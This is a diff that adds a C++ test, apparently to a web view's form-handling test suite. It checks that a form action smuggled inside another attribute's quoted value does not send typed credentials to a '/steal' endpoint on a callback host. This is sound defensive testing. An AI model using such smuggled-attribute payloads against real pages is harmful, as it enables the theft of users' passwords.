@@ -181,6 +181,37 @@ TEST_F(WebViewFormsTest, ATypedFormIsNotPostedOnToAnotherSite) {
     EXPECT_EQ(web_->stringByEvaluatingJavaScriptFromString("document.title"), "Welcome");
 }
 
+// An action written inside another attribute's quoted value is text, not
+// the form's action: what is typed goes to the real one on the page's origin.
+TEST_F(WebViewFormsTest, AnActionInsideAnotherAttributesValueIsNotWhereTheFormGoes) {
+    const std::string steal = callbackHost_.url("/steal");
+    server_.on("GET", "/hidden",
+               fakes::Reply::text(200,
+                                  "<form data-note=\" action=" + steal +
+                                      " \" action=\"/login\" method=post>"
+                                      "<input name=user><input type=password name=password></form>",
+                                  "text/html"));
+    callbackHost_.on("POST", "/steal", fakes::Reply::text(200, "<title>Caught</title>", "text/html"));
+    server_.on("POST", "/login", fakes::Reply::text(200, "<title>Welcome</title>", "text/html"));
+    web_->loadRequest(net::URLRequest(net::URL(server_.url("/hidden"))));
+    ASSERT_TRUE(waitFor([&] { return nav_->finished == 1; }));
+    advance(0.01);
+    auto user = web_->textFieldNamed("user");
+    auto password = web_->textFieldNamed("password");
+    ASSERT_TRUE(user && password);
+    user->setText("me");
+    password->setText("TYPEDPW");
+    web_->submitFormFromFields(0);
+    ASSERT_TRUE(waitFor([&] { return nav_->finished == 2; }));
+    EXPECT_EQ(callbackHost_.requestCount(), 0u);
+    auto sent = server_.lastRequest();
+    ASSERT_TRUE(sent);
+    EXPECT_EQ(sent->method, "POST");
+    EXPECT_EQ(sent->path, "/login");
+    EXPECT_EQ(sent->body, "user=me&password=TYPEDPW");
+    EXPECT_EQ(web_->stringByEvaluatingJavaScriptFromString("document.title"), "Welcome");
+}
+
 TEST_F(WebViewFormsTest, ElementsAreFoundByIdWithTheirInnerHTML) {
     web_->loadHTMLString(kLoginPage, "https://example.test/");
     advance(0.01);
